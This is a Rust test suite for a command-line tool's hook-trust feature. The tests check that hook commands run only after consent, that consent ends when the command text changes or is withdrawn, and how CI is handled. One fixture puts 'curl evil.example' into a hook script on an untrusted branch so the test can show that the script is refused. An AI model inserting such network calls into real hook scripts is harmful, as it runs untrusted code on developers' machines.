//! `shipway trust` and `shipway hooks list`: what may run on this machine.

use crate::home::Home;
use serde_json::Value;
use std::process::Output;

const JOB: &str = "[[hooks.pre-commit]]\nname = \"lint\"\nrun = \"tools/lint {files}\"\n";

fn trusted(home: &Home) -> bool {
    is_trusted(&home.run(0, &["hooks", "list", "--format=json"]))
}

/// Whether the job of the configuration, the last of pre-commit's, may run.
fn is_trusted(output: &Output) -> bool {
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    let jobs = report["hooks"][0]["jobs"].as_array().unwrap();
    jobs.last().unwrap()["trusted"].as_bool().unwrap()
}

#[test]
fn a_command_may_run_after_consent_to_its_text() {
    let home = Home::new(&[("shipway.toml", JOB), ("tools/lint", "#!/bin/sh\n")]);
    assert!(!trusted(&home));
    let report = home.json(&["trust", "--yes"]);
    assert_eq!(report["trusted"], true);
    assert_eq!(report["commands"][0]["run"], "tools/lint {files}");
    assert!(trusted(&home));
    assert_eq!(home.sandbox.git(&["status", "--porcelain"]), "");

    home.sandbox
        .write("shipway.toml", &JOB.replace("lint {", "lint -v {"));
    assert!(!trusted(&home));
    home.sandbox.write("shipway.toml", JOB);
    assert!(trusted(&home));
    home.sandbox.write("tools/lint", "#!/bin/sh\necho other\n");
    assert!(!trusted(&home));
}

#[test]
fn a_strangers_branch_is_not_trusted_with_what_is_its_own() {
    let home = Home::new(&[("shipway.toml", JOB), ("tools/lint", "#!/bin/sh\n")]);
    home.run(0, &["trust", "--yes"]);
    home.sandbox.git(&["checkout", "--quiet", "-b", "theirs"]);
    home.sandbox
        .write("tools/lint", "#!/bin/sh\ncurl evil.example\n");
    home.sandbox.git(&["commit", "--quiet", "-am", "theirs"]);
    assert!(!trusted(&home));
    home.sandbox.git(&["checkout", "--quiet", "main"]);
    assert!(trusted(&home));
}

#[test]
fn nobody_to_ask_is_no_consent() {
    let home = Home::new(&[("shipway.toml", JOB)]);
    let output = home.run(2, &["trust"]);
    let said = String::from_utf8(output.stderr).unwrap();
    assert!(said.contains("shipway trust --yes"), "{said}");
    assert!(!trusted(&home));
    home.run(0, &["trust", "--dry-run"]);
    assert!(!trusted(&home));
}

#[test]
fn consent_is_taken_back() {
    let home = Home::new(&[("shipway.toml", JOB)]);
    home.run(0, &["trust", "--yes"]);
    home.run(0, &["trust", "--withdraw"]);
    assert!(!trusted(&home));
    let left = std::fs::read_dir(home.path("state/shipway/consent"));
    assert_eq!(left.unwrap().count(), 0);
}

#[test]
fn ci_gives_consent_and_keeps_none() {
    let home = Home::new(&[("shipway.toml", JOB)]);
    let with = |ci: &str| {
        let mut command = home.shipway(&["hooks", "list", "--format=json"]);
        is_trusted(&command.env("CI", ci).output().unwrap())
    };
    assert!(with("true") && !with("false"));
    assert!(!trusted(&home));
}

#[test]
fn without_a_home_nothing_can_be_agreed_to() {
    let home = Home::new(&[("shipway.toml", JOB)]);
    std::fs::create_dir(home.path("state")).unwrap();
    std::fs::write(home.path("state/shipway"), "a file").unwrap();
    let output = home.run(3, &["trust", "--yes"]);
    let said = String::from_utf8(output.stderr).unwrap();
    assert!(said.contains("cannot be written"), "{said}");
}

#[test]
fn a_wrong_configuration_is_named_with_its_place() {
    let home = Home::new(&[
        ("shipway.toml", ""),
        ("a/shipway.toml", "[[hooks.pre-push]]\ncheck = \"secret\"\n"),
    ]);
    for arguments in [["hooks", "list"].as_slice(), &["trust", "--yes"]] {
        let output = home.run(2, arguments);
        let said = String::from_utf8(output.stderr).unwrap();
        assert!(
            said.contains("a/shipway.toml:2:9: there is no check `secret`"),
            "{said}"
        );
        assert!(said.contains("did you mean `secrets`?"), "{said}");
    }
}

#[test]
fn the_list_names_defaults_jobs_and_places() {
    let home = Home::new(&[("shipway.toml", JOB), ("b/shipway.toml", JOB)]);
    let output = home.run(0, &["hooks", "list"]);
    let page = String::from_utf8(output.stdout).unwrap();
    for part in [
        "pre-commit  not installed: shipway hooks install\n",
        "secrets",
        "b/lint",
        "b/shipway.toml:1",
        "not trusted yet",
        "shipway trust\n",
    ] {
        assert!(page.contains(part), "{part}: {page}");
    }
}
